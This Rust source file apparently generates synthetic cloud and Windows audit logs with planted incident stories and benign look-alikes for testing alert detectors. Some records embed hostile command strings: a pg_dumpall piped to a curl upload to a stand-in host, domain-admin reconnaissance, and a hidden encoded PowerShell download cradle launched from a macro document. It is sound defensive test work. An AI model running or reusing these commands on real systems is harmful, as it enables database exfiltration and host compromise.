//! The planted stories, one function per cloud: the extra calls, and the alerts they should
//! raise ([`List::Incident`] for the story's point, [`List::Side`] for the alerts that follow
//! from it) or must not raise ([`List::Lookalike`]).
//!
//! Stories: (1) GCP `dana.whitfield` creates `tmp-export-key` at ~02:13 from a new IP, shares
//! it with an outside account and encrypts with it; (2) GCP `etl-runner` creates a service
//! account key; (3) Azure `oliver.grant` runs a command on VM `db-01`; (4) AWS `marco` creates
//! bucket `marco-backup-tmp` in the evening from a new IP, and GCP `terraform-runner` creates a
//! bucket; (5) AWS role session `build-agent/ci-4711` calls `GetSecretValue` 300 times in an
//! hour; (6) Windows `CORP\jsmith` runs `svc-update.exe` from `WINWORD.EXE` on FIN-WS-07; plus
//! benign-looking key creations on AWS (`lena.fischer`) and Azure Key Vault (`amir.haddad`).
//!
//! Benign look-alikes (must NOT raise alerts):
//! - GCP `ci-deployer@…` rotates `app-data-key` with `CreateCryptoKeyVersion` every 14–21
//!   days, the first rotation on day 3 (inside the learning period, so the method is known).
//! - Azure `maria.lopez@…` touches the `shop-frontend` web app on a first-week day (mixed-case
//!   resource id) and again late in the range with the id in UPPER case.
//! - Windows: a new `C:\Windows\System32\CompatTelRunner.exe` (DEV-WS-02) and a new Defender
//!   platform folder under `C:\ProgramData\` (FIN-WS-07), both excluded by the hunting query.
//! - Not included: a principal whose only new call fails (left out because whether a failed
//!   call counts as "new" is the detector's decision).

use super::incidents::{B, List, Subject};
use super::util::{HOUR, MIN, SEC, weekday};
use super::{Cloud, ORG, PROJECT, aws, azure, gcp, windows};

/// Key of the GCP key created in story 1.
pub(crate) fn tmp_key() -> String {
    gcp::key_name("prod-ring", "tmp-export-key")
}

fn at<'a>(cloud: Cloud, who: &'a str, t: i64, key: &'a str) -> Subject<'a> {
    Subject { cloud, who, t, key }
}

pub(crate) fn gcp(b: &mut B<'_>) {
    use List::{Incident, Lookalike, Side};
    let g = Cloud::Gcp;
    let dana = format!("dana.whitfield@{ORG}");
    let key = tmp_key();
    let ip = Some("192.0.2.147");
    let ua = "google-api-python-client/2.149.0 (gzip),gzip(gfe)";
    let d = b.day(0.6, true);
    let t0 = b.at(d, 2, 13);
    b.call(g, t0, &dana, gcp::Op::KmsCreateKey.code(), &key, "", ip).ua = Some(ua.into());
    let t1 = t0 + 28 * MIN + b.rng.between(0, 90 * SEC);
    let member = "roles/cloudkms.cryptoKeyEncrypterDecrypter|user:ops-archive-7731@gmail.com";
    b.call(g, t1, &dana, gcp::Op::KmsSetIam.code(), &key, member, ip).ua = Some(ua.into());
    for i in 0..8 {
        let t = t1 + 24 * MIN + i * 26 * MIN + b.rng.between(0, 5 * MIN);
        let res = if i % 2 == 0 { key.clone() } else { format!("{key}/cryptoKeyVersions/1") };
        b.call(g, t, &dana, gcp::Op::KmsEncrypt.code(), &res, "", ip).ua = Some(ua.into());
    }
    b.note(Incident, "kms-key-created", at(g, &dana, t0, &key), "Daytime developer creates tmp-export-key at ~02:13 UTC from a never-seen IP (192.0.2.147) without a rotation period, grants an outside gmail account encrypt/decrypt on it within the hour, then encrypts with it for hours");
    b.note(
        Side,
        "new-api-call",
        at(g, &dana, t0, gcp::Op::KmsCreateKey.method()),
        "first CreateCryptoKey by dana.whitfield (story 1)",
    );
    b.note(
        Side,
        "new-api-call",
        at(g, &dana, t1, gcp::Op::KmsSetIam.method()),
        "first cloudkms SetIamPolicy by dana.whitfield (story 1)",
    );
    b.note(Side, "new-resource-access", at(g, &dana, t0, &key), "first touch of tmp-export-key (story 1)");
    b.note(
        Side,
        "sensitive-operation",
        at(g, &dana, t1, &key),
        "the key is shared with a gmail account outside the organisation (story 1)",
    );

    let etl = gcp::sa_email("etl-runner");
    let d = b.day(0.35, false);
    let t = b.at(d, 4, 37);
    let res = format!("projects/{PROJECT}/serviceAccounts/{etl}");
    b.call(g, t, &etl, gcp::Op::IamCreateSaKey.code(), &res, "", None);
    b.note(
        Incident,
        "new-api-call",
        at(g, &etl, t, gcp::Op::IamCreateSaKey.method()),
        "ETL service account (normally BigQuery + Storage only) creates a key for itself at 04:37 UTC",
    );
    b.note(
        Side,
        "new-resource-access",
        at(g, &etl, t, &res),
        "first touch of its own service-account resource (story 2)",
    );
    b.note(
        Side,
        "sensitive-operation",
        at(g, &etl, t, gcp::Op::IamCreateSaKey.method()),
        "a service-account key is in the sensitive-operation catalogue (story 2)",
    );

    let tf = gcp::sa_email("terraform-runner");
    let bucket = gcp::bucket("nw-tf-state-replica");
    let d = b.day(0.2, true);
    let t = b.at(d, 10, 5);
    b.call(g, t, &tf, gcp::Op::BucketCreate.code(), &bucket, "", None);
    b.note(
        Incident,
        "bucket-created",
        at(g, &tf, t, "nw-tf-state-replica"),
        "Terraform service account creates bucket projects/_/buckets/nw-tf-state-replica during business hours",
    );
    b.note(
        Side,
        "new-api-call",
        at(g, &tf, t, gcp::Op::BucketCreate.method()),
        "first storage.buckets.create by terraform-runner",
    );
    b.note(Side, "new-resource-access", at(g, &tf, t, &bucket), "first touch of the new bucket");

    // Look-alike: key rotation by CI, first inside the learning period.
    let ci = gcp::sa_email("ci-deployer");
    let app = gcp::key_name("prod-ring", "app-data-key");
    let mut d = 3.min(b.learn.saturating_sub(1));
    let mut version = 2;
    while d < b.span.ndays {
        let t = b.at(d, 6, 10);
        b.call(g, t, &ci, gcp::Op::KmsCreateVersion.code(), &app, &version.to_string(), None);
        if d >= b.learn {
            b.note(Lookalike, "kms-key-created", at(g, &ci, t, &app), "Scheduled CreateCryptoKeyVersion rotation by CI (known since the first week): not a key creation, not a new call");
        }
        version += 1;
        d += 14 + b.rng.below(8) as u32;
    }
}

pub(crate) fn azure(b: &mut B<'_>) {
    use List::{Incident, Lookalike, Side};
    let a = Cloud::Azure;
    let oliver = format!("oliver.grant@{ORG}");
    let db01 = azure::rid("prod-rg", "Microsoft.Compute/virtualMachines/db-01");
    let d = b.day(0.75, true);
    let t = b.at(d, 14, 22);
    let body = r#"{"commandId":"RunShellScript","script":["pg_dumpall -U postgres | gzip > /tmp/.cache/pgdump.gz && curl -s -T /tmp/.cache/pgdump.gz https://transfer.example.net/u/"]}"#;
    let it = b.call(a, t, &oliver, azure::Op::VmRunCommand.code(), &db01, "", None);
    it.detail = body.to_owned();
    it.upper = Some(false);
    b.note(Incident, "new-resource-access", at(a, &oliver, t, &db01), "Ops engineer invokes Run Command on the production database VM db-01, a resource he never touched (Start + Success, same correlationId)");
    b.note(
        Side,
        "new-api-call",
        at(a, &oliver, t, "Microsoft.Compute/virtualMachines/runCommand/action"),
        "first Run Command by oliver.grant (story 3)",
    );
    b.note(
        Side,
        "sensitive-operation",
        at(a, &oliver, t, "Microsoft.Compute/virtualMachines/runCommand/action"),
        "Run Command is in the sensitive-operation catalogue (story 3)",
    );

    let amir = format!("amir.haddad@{ORG}");
    let vault = azure::vault_rid("nw-sec-kv");
    let d = b.day(0.65, true);
    let t = b.at(d, 15, 3);
    b.call(a, t, &amir, azure::Op::KvKeyCreate.code(), &vault, "keys/backup-wrap-key", None);
    b.call(a, t + 45 * SEC, &amir, azure::Op::KvKeyGet.code(), &vault, "keys/backup-wrap-key", None);
    b.note(Incident, "kms-key-created", at(a, &amir, t, "https://nw-sec-kv.vault.azure.net/keys/backup-wrap-key"), "Security admin creates Key Vault key backup-wrap-key in nw-sec-kv during business hours (benign-looking, low severity)");
    b.note(Side, "new-api-call", at(a, &amir, t, "KeyCreate"), "first KeyCreate by amir.haddad");
    let id = azure::kv_object_id("nw-sec-kv", "keys/backup-wrap-key");
    b.note(Side, "new-resource-access", at(a, &amir, t, &id), "first touch of the new key (properties.id)");

    // Look-alike: same web app, different letter case.
    let maria = format!("maria.lopez@{ORG}");
    let site = azure::rid("Web-RG", "Microsoft.Web/sites/shop-frontend");
    let early = (1..b.learn.max(2)).find(|&d| weekday(b.span.day_start(d)) < 5).unwrap_or(0);
    let t = b.at(early, 10, 14);
    b.call(a, t, &maria, azure::Op::SiteWrite.code(), &site, "", None).upper = Some(false);
    let t = b.at(early, 14, 31);
    b.call(a, t, &maria, azure::Op::SiteRestart.code(), &site, "", None).upper = Some(false);
    let d = b.day(0.9, true);
    let t = b.at(d, 11, 2);
    let up = site.to_ascii_uppercase();
    b.call(a, t, &maria, azure::Op::SiteRestart.code(), &up, "", None).upper = Some(true);
    b.note(Lookalike, "new-resource-access", at(a, &maria, t, &up), "Web developer restarts shop-frontend, which she touched in the first week; only the resource-id letter case differs");
}

pub(crate) fn aws(b: &mut B<'_>) {
    use List::{Incident, Side};
    let w = Cloud::Aws;
    // CloudTrail times have whole seconds: keep planted times exact.
    let whole = |t: i64| t - t.rem_euclid(SEC);
    let marco = aws::user_arn("marco");
    let ip = Some("192.0.2.201");
    let d = b.day(0.45, true);
    let t = whole(b.at(d, 21, 47));
    b.call(w, t - 3 * MIN, &marco, aws::Op::ListBuckets.code(), "", "us-east-1", ip);
    b.call(w, t, &marco, aws::Op::CreateBucket.code(), "marco-backup-tmp", "us-east-1", ip);
    for i in 0..6 {
        let res = format!("marco-backup-tmp/export/2026/reports-part-{i:04}.csv.gz");
        let ti = whole(t + 2 * MIN + i * 3 * MIN + b.rng.between(0, 90 * SEC));
        b.call(w, ti, &marco, aws::Op::PutObject.code(), &res, "us-east-1", ip);
    }
    b.note(Incident, "bucket-created", at(w, &marco, t, "marco-backup-tmp"), "IAM user marco creates bucket marco-backup-tmp at ~21:47 UTC from a never-seen IP (192.0.2.201) and uploads report exports into it");
    b.note(Side, "new-api-call", at(w, &marco, t, "CreateBucket"), "first CreateBucket by marco (story 4)");
    b.note(
        Side,
        "new-resource-access",
        at(w, &marco, t, "arn:aws:s3:::marco-backup-tmp"),
        "first touch of the new bucket (story 4)",
    );

    let agent = aws::session_arn("build-agent", "ci-4711");
    let d = b.day(0.5, false);
    // Starts just after the hour, so the burst hour is one clock hour.
    let t0 = (b.span.day_start(d) + 3 * HOUR + b.rng.between(SEC, 9 * SEC)).clamp(b.span.start, b.span.end - 1);
    let mut secrets: Vec<(String, bool)> =
        ["ci/npm-token", "ci/registry-password"].iter().map(|s| (aws::secret_arn(s), false)).collect();
    let prod = ["db/orders", "db/payments", "db/analytics", "stripe/api-key", "sendgrid/api-key", "okta/scim-token"];
    let prod2 = ["github/deploy-key", "datadog/api-key", "slack/webhook", "jwt/signing-key", "backup/s3-credentials"];
    for (i, s) in prod.iter().chain(&prod2).enumerate() {
        secrets.push((aws::secret_arn(&format!("prod/{s}")), i % 4 == 3));
    }
    let mut first = i64::MAX;
    let mut first_of: std::collections::BTreeMap<String, i64> = std::collections::BTreeMap::new();
    for i in 0..300i64 {
        let (arn, denied) = secrets[(i as usize * 7 + 3) % secrets.len()].clone();
        let t = whole(t0 + i * 9 * SEC + b.rng.between(0, 8 * SEC));
        first = first.min(t);
        first_of.entry(arn.clone()).or_insert(t);
        b.call(w, t, &agent, aws::Op::GetSecretValue.code(), &arn, "us-east-1", None).fail = denied;
    }
    b.note(Incident, "api-burst", at(w, &agent, first, "GetSecretValue"), "CI role session that calls secretsmanager GetSecretValue 1-3 times an hour calls it 300 times in 45 minutes, walking through prod/* secrets (some AccessDenied)");
    b.note(Side, "sensitive-operation", at(w, &agent, first, "GetSecretValue"), "a burst of secret reads (story 5)");
    // CloudTrail names the secret read (`requestParameters.secretId`): each prod secret the
    // session never read before is a first touch.
    for (arn, t) in first_of.iter().filter(|(arn, _)| arn.contains(":secret:prod/")) {
        b.note(
            Side,
            "new-resource-access",
            at(w, &agent, *t, arn),
            "first read of a prod secret during the burst (story 5)",
        );
    }

    let lena = aws::user_arn("lena.fischer");
    let d = b.day(0.3, true);
    let t = whole(b.at(d, 11, 20));
    let key_id = super::util::uuid(super::util::hash(&[b.rng.next(), 0x6b6d]));
    let arn = aws::kms_key_arn("us-east-1", &key_id);
    b.call(w, t, &lena, aws::Op::CreateKey.code(), &arn, "us-east-1", None).detail =
        "Envelope key for finance exports".into();
    let t2 = whole(t + 61 * SEC + b.rng.between(0, 14 * SEC));
    b.call(w, t2, &lena, aws::Op::EnableKeyRotation.code(), &arn, "us-east-1", None);
    b.note(Incident, "kms-key-created", at(w, &lena, t, &arn), "Security admin creates a KMS key in business hours and enables rotation a minute later (benign-looking, low severity)");
    b.note(Side, "new-api-call", at(w, &lena, t, "CreateKey"), "first CreateKey by lena.fischer");
    b.note(Side, "new-api-call", at(w, &lena, t2, "EnableKeyRotation"), "first EnableKeyRotation by lena.fischer");
    b.note(Side, "new-resource-access", at(w, &lena, t, &arn), "first touch of the new key");
}

pub(crate) fn windows(b: &mut B<'_>) {
    use List::{Incident, Lookalike};
    let w = Cloud::Windows;
    let proc_ = windows::Op::Proc.code();
    let d = b.day(0.85, true);
    b.plan.quiet_day = Some(d);
    let js = "CORP\\jsmith";
    let exe = r"C:\Users\Public\Downloads\svc-update.exe";
    let word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
    let outlook = r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE";
    let t0 = b.at(d, 9, 38);
    let doc =
        r"C:\Users\jsmith\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q3K8ZP1M\Invoice_Oct-2026.docm";
    b.call(w, t0, js, proc_, word, outlook, None).detail = format!(r#""{word}" /n "{doc}" /o """#);
    let t = t0 + 3 * MIN + b.rng.between(0, 40 * SEC);
    b.call(w, t, js, proc_, exe, word, None).detail =
        format!(r#""{exe}" /install /quiet /url https://update-cdn.example.net/k/2f9a7c"#);
    let cmd = r"C:\Windows\System32\cmd.exe";
    b.call(w, t + 41 * SEC, js, proc_, cmd, exe, None).detail =
        r#"C:\Windows\system32\cmd.exe /c whoami /all & net group "Domain Admins" /domain"#.into();
    let ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    b.call(w, t + 2 * MIN, js, proc_, ps, exe, None).detail = format!(
        "{ps} -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    );
    let svchost = r"C:\Windows\System32\svchost.exe";
    b.call(w, t + 3 * HOUR + 7 * MIN, js, proc_, exe, svchost, None).detail = format!(r#""{exe}" -k netsvc"#);
    b.note(Incident, "rare-process", at(w, js, t, exe), "On FIN-WS-07, jsmith opens a macro document from Outlook; WINWORD.EXE launches C:\\Users\\Public\\Downloads\\svc-update.exe (never seen anywhere), which runs whoami/net group and an encoded PowerShell");
    b.note(List::Side, "rare-process", at(w, js, t + 2 * MIN, ps), "the encoded PowerShell it starts (story 6)");

    let dev = windows::machine_key("DEV-WS-02");
    let d = b.day(0.5, false);
    let t = b.at(d, 3, 12);
    let tel = r"C:\Windows\System32\CompatTelRunner.exe";
    b.call(w, t, &dev, proc_, tel, svchost, None).detail = format!("{tel} -m:appraiser.dll -f:DoScheduledTelemetryRun");
    b.note(
        Lookalike,
        "rare-process",
        at(w, &dev, t, tel),
        "New process under C:\\Windows\\System32\\ (excluded by the hunting query)",
    );
    let fin = windows::machine_key("FIN-WS-07");
    let d = b.day(0.4, false);
    let t = b.at(d, 4, 2);
    let def = r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24100.7-0\MsMpEng.exe";
    b.call(w, t, &fin, proc_, def, r"C:\Windows\System32\services.exe", None).detail = format!("\"{def}\"");
    b.note(
        Lookalike,
        "rare-process",
        at(w, &fin, t, def),
        "Defender platform update: new path under C:\\ProgramData\\ (excluded by the hunting query)",
    );
}
